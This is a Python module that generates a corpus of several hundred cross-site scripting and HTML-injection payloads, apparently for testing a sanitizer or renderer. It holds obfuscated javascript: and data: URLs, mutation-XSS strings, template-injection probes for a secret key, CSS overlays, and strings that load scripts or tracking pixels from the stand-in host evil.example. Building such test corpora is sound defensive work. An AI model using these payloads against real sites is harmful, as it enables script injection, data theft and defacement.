"""Text that tries to be more than text: over 500 ways to run, to load, to lay itself over a page.

Built from families (what runs × how it is hidden) after the lists of OWASP's XSS Filter Evasion Cheat Sheet,
PortSwigger's XSS Cheat Sheet, html5sec.org and the literature on mutation XSS (Heiderich et al. 2013).
Whatever runs would set `window.pwned`, open a dialog, or ask the host evil.example for something.
"""

import base64
from itertools import product

RUN = "window.pwned=1"

_ELEMENTS = [
    'img src=x {on}="{run}"',
    'svg {on}="{run}"',
    'body {on}="{run}"',
    'video {on}="{run}"><source src=x',
    'audio src=x {on}="{run}"',
    'details open {on}="{run}"',
    'input autofocus {on}="{run}"',
    'select autofocus {on}="{run}"',
    'textarea autofocus {on}="{run}"',
    'marquee {on}="{run}"',
    'iframe src=about:blank {on}="{run}"',
    'object data=x {on}="{run}"',
    'a href=# tabindex=1 autofocus {on}="{run}"',
    'math {on}="{run}"',
    'style {on}="{run}"',
    'link rel=stylesheet href=/static/css/base.css {on}="{run}"',
    'dialog open {on}="{run}"',
    'x tabindex=1 autofocus {on}="{run}"',
]
_EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onbegin", "onmouseover"]
_HIDINGS = [
    lambda tag: f"<{tag}>",
    lambda tag: f"<{tag.upper().replace('WINDOW.PWNED=1', RUN)}>",
    lambda tag: f"<{tag.replace(' ', '/')}>",
    lambda tag: f"<{tag.replace(' ', chr(12))}//",
    lambda tag: f"\"'><{tag}>",
]

_SCHEMES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A&#x61&#x76ascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"jav&#x09;ascript:{RUN}",
    f"%6Aavascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode(),
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"//evil.example/{RUN}",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    f"javascript://%0a{RUN}",
]
_PLACES = [
    "[go]({url})",
    "![go]({url})",
    "<{url}>",
    "[go]: {url}\n\n[go]",
    '<a href="{url}">go</a>',
    "<iframe src='{url}'></iframe>",
    "<form action='{url}'><button>go</button></form>",
    "<svg><a xlink:href='{url}'><text>go</text></a></svg>",
    "<math href='{url}'>go</math>",
    "$\\href{{{url}}}{{go}}$",
]

_MUTATIONS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror={run}>">',
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "<template><img src=x onerror={run}></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror={run}></annotation-xml></math>',
    '<math><maction actiontype=statusline xlink:href="javascript:{run}">x</maction></math>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.{run}</script>"></foreignObject></svg>',
    "<svg><script>{run}</script></svg>",
    "<svg><script href=data:,{run} />",
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x" /></svg>',
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:{run} /><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to={run}>",
    "<svg><image href=https://evil.example/i.svg></svg>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</script><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<!--[if gte IE 4]><script>{run}</script><![endif]-->",
    "<script>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>{run}</script>",
    '<script type=application/json id=words>{{"a": 1}}</script>',
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/p>",
    "<img src=https://evil.example/pixel.gif>",
    "![pixel](https://evil.example/pixel.png)",
    "<img srcset='https://evil.example/1x.png 1x'>",
    "<picture><source srcset=https://evil.example/p.png><img></picture>",
    "<video poster=https://evil.example/poster.png></video>",
    "<embed src=https://evil.example/e.swf>",
    "<object data=https://evil.example/o></object>",
    "<isindex type=image src=1 onerror={run}>",
    "<xml id=x><x><![CDATA[<img src=x onerror={run}>]]></x></xml>",
    '" onmouseover={run} x="',
    "' onfocus={run} autofocus x='",
    "` onload={run} x=`",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{% debug %}}{{{{ settings.SECRET_KEY }}}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "＜script＞{run}＜/script＞",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\u2028{run}\u2029",
    "';{run}//",
    '";{run}//',
    "</script><svg onload={run}>",
    "<div hx-get=https://evil.example/ hx-trigger=load>x</div>",
    "<div data-hx-get=https://evil.example/ data-hx-trigger=load>x</div>",
    '<div hx-on:load="{run}" hx-on::load="{run}">x</div>',
    "<div hx-get=/ hx-trigger=load hx-vals='js:{{a: {run}}}'>x</div>",
    "<div hx-ext=debug hx-swap-oob=true id=main>gone</div>",
    "<button data-theme-choice=dark autofocus>x</button>",
    "<form id=submit><input name=action><input name=csrfmiddlewaretoken value=x></form>",
    "<img name=cookie><img name=body><img name=getElementById>",
    "<a id=pwned href=x>x</a><a id=pwned name=x href=y>y</a>",
    "<input form=submit name=idempotency_key value=x>",
]

_RULES = [
    "position:fixed;inset:0;z-index:9999;background:red",
    "position:absolute;top:0;left:0;width:100vw;height:100vh",
    "background:url(https://evil.example/bg.png)",
    "background-image:image-set('https://evil.example/is.png' 1x)",
    "width:expression(window.pwned=1)",
    "behavior:url(https://evil.example/x.htc)",
    "-moz-binding:url(https://evil.example/x.xml#x)",
    "font-size:9000px",
    "margin-top:-9999px",
    "transform:scale(99)",
]
_STYLED = [
    '<p style="{rule}">x</p>',
    "<style>*{{{rule}}}</style>",
    "<svg><style>*{{{rule}}}</style></svg>",
    "<style>@import 'https://evil.example/i.css';*{{{rule}}}</style>",
    "<math style='{rule}'><mi>x</mi></math>",
    "$\\style{{{rule}}}{{x}}$",
    "$\\htmlStyle{{{rule}}}{{x}}$",
    "$\\class{{menu__panel}}{{x}}\\cssId{{submit}}{{x}}$ {rule}",
]

_OVERFLOWS = [
    "A" * 3000,
    "W" * 200 + "​" * 200,
    "Z" + "̃̆͐" * 200,
    "‮" + "backwards" * 40 + "‬",
    "⁦" * 60 + "isolated",
    "| " + " | ".join("wide" * 8 for _ in range(40)) + " |\n|" + "---|" * 40,
    "# " + "heading" * 80,
    "`" + "code" * 400 + "`",
    "> " * 60 + "deep",
    "- " * 40 + "deep",
    "$" + "x+" * 600 + "x$",
    "$\\rule{900em}{900em}$",
    "$\\hspace{-900em}x\\kern-900em y$",
    "$\\raisebox{90em}{x}$",
    "https://example.org/" + "path/" * 300,
    "\t" * 400 + "x",
    " " * 2000 + "x",
    "﷽" * 80,
    "👩‍👩‍👧‍👦" * 200,
]


def payloads() -> list[str]:
    """All of them, each once, in a fixed order."""
    tags = [hide(tag.format(on=on, run=RUN)) for tag, on, hide in product(_ELEMENTS, _EVENTS, _HIDINGS)]
    links = [place.format(url=url) for place, url in product(_PLACES, _SCHEMES)]
    mutations = [text.replace("{run}", RUN).replace("{{", "{").replace("}}", "}") for text in _MUTATIONS]
    styled = [place.format(rule=rule) for place, rule in product(_STYLED, _RULES)]
    return list(dict.fromkeys([*mutations, *links, *styled, *tags, *_OVERFLOWS]))


def short_payloads(length: int) -> list[str]:
    """Those that fit into a field of so many characters."""
    return [text for text in payloads() if len(text) <= length]
